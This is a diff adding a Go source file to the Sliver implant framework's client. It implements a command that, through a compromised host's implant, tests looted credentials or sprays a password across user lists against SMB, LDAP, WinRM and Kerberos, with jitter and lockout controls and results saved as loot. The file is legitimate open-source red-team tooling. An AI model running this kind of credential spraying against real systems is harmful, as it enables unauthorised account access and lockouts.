@@ -0,0 +1,210 @@
+package loot
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"text/tabwriter"
+	"time"
+
+	"github.com/bishopfox/sliver/client/command/help"
+	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+func init() {
+	help.RegisterOpsec(consts.ValidateCredsStr, &help.OpsecInfo{
+		Risk:      help.OpsecHigh,
+		Artifacts: []string{"failed logon events (4625/4771) on the target", "account lockouts"},
+		APIs:      []string{"smb, ldap, winrm and kerberos logins from the implant host"},
+	})
+}
+
+// ValidateCredsCmd - Test user/password loot against network services from the
+// active implant
+func ValidateCredsCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+
+	req := &sliverpb.ValidateCredsReq{
+		Target:           ctx.Flags.String("target"),
+		Domain:           ctx.Flags.String("domain"),
+		Delay:            int64(ctx.Flags.Int("delay")),
+		Jitter:           int64(ctx.Flags.Int("jitter")),
+		LockoutThreshold: uint32(ctx.Flags.Uint("lockout-threshold")),
+		LockoutWindow:    int64(ctx.Flags.Int("lockout-window")),
+		SprayPassword:    ctx.Flags.String("spray"),
+		Request:          con.ActiveTarget.Request(ctx),
+	}
+	if req.Target == "" {
+		con.PrintErrorf("A target is required, see --help\n")
+		return
+	}
+	for _, protocol := range strings.Split(ctx.Flags.String("protocols"), ",") {
+		if protocol = strings.ToLower(strings.TrimSpace(protocol)); protocol != "" {
+			req.Protocols = append(req.Protocols, protocol)
+		}
+	}
+	for _, lootID := range strings.Split(ctx.Flags.String("loot-ids"), ",") {
+		if lootID = strings.TrimSpace(lootID); lootID != "" {
+			req.Credentials = append(req.Credentials, &sliverpb.CredentialAttempt{ID: lootID})
+		}
+	}
+	if usersFile := ctx.Flags.String("users"); usersFile != "" {
+		users, err := readUsers(usersFile)
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		req.SprayUsers = users
+	}
+	if req.LockoutThreshold == 0 {
+		con.PrintWarnf("No lockout threshold set, failed attempts are not limited\n")
+	}
+
+	ctrl := make(chan bool)
+	con.SpinUntil(fmt.Sprintf("Validating credentials against %s ...", req.Target), ctrl)
+	validate, err := con.Rpc.ValidateCreds(context.Background(), req)
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if validate.Response != nil && validate.Response.Async {
+		con.AddBeaconCallback(validate.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, validate)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintValidateCreds(validate, con)
+		})
+		con.PrintAsyncResponse(validate.Response)
+	} else {
+		PrintValidateCreds(validate, con)
+	}
+}
+
+// readUsers - One user per line, blank lines are ignored
+func readUsers(usersFile string) ([]string, error) {
+	file, err := os.Open(usersFile)
+	if err != nil {
+		return nil, err
+	}
+	defer file.Close()
+	users := []string{}
+	scanner := bufio.NewScanner(file)
+	for scanner.Scan() {
+		if user := strings.TrimSpace(scanner.Text()); user != "" {
+			users = append(users, user)
+		}
+	}
+	return users, scanner.Err()
+}
+
+// PrintValidateCreds - Display the credential validation results
+func PrintValidateCreds(validate *sliverpb.ValidateCreds, con *console.SliverConsoleClient) {
+	if validate.Response != nil && validate.Response.Err != "" {
+		con.PrintErrorf("%s\n", validate.Response.Err)
+		return
+	}
+	if validate.Aborted != "" {
+		con.PrintWarnf("Aborted: %s\n", validate.Aborted)
+	}
+	if len(validate.Results) == 0 {
+		con.PrintInfof("No credentials were tested\n")
+		return
+	}
+
+	outputBuf := bytes.NewBufferString("")
+	table := tabwriter.NewWriter(outputBuf, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "User\tPassword\tProtocol\tStatus\tError\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("User")),
+		strings.Repeat("=", len("Password")),
+		strings.Repeat("=", len("Protocol")),
+		strings.Repeat("=", len("Status")),
+		strings.Repeat("=", len("Error")),
+	)
+	found := 0
+	for _, result := range validate.Results {
+		password := result.Password
+		if con.MaskingSecrets() {
+			password = console.MaskedSecret
+		}
+		if passwordFound(result.Status) {
+			found++
+		}
+		fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t\n",
+			result.User, password, result.Protocol, result.Status, result.Error)
+	}
+	table.Flush()
+	con.Printf("%s\n", outputBuf.String())
+	con.PrintInfof("%d of %d attempt(s) found a password, results were saved to the loot store\n", found, len(validate.Results))
+}
+
+func passwordFound(status string) bool {
+	return status == "valid" || status == "expired" || status == "restricted"
+}
+
+func colorStatus(status string) string {
+	switch status {
+	case "valid":
+		return console.Bold + console.Green + status + console.Normal
+	case "expired", "restricted":
+		return console.Orange + status + console.Normal
+	case "locked", "disabled":
+		return console.Red + status + console.Normal
+	}
+	return status
+}
+
+// printCredentialValidations - The validations of a credential, newest first
+func printCredentialValidations(stdout io.Writer, credential *clientpb.Credential) {
+	if len(credential.Validations) == 0 {
+		return
+	}
+	fmt.Fprintf(stdout, "\n%sValidations:%s\n", console.Bold, console.Normal)
+	for index := len(credential.Validations) - 1; 0 <= index; index-- {
+		validation := credential.Validations[index]
+		validatedAt := time.Unix(validation.ValidatedAt, 0).Format(time.RFC1123)
+		fmt.Fprintf(stdout, "  %s  %s %s %s %s\n", validatedAt, validation.Protocol, validation.Target, colorStatus(validation.Status), validation.Error)
+	}
+}
+
+// latestValidation - The status of the credential's most recent validation
+func latestValidation(credential *clientpb.Credential) string {
+	if credential == nil || len(credential.Validations) == 0 {
+		return ""
+	}
+	return credential.Validations[len(credential.Validations)-1].Status
+}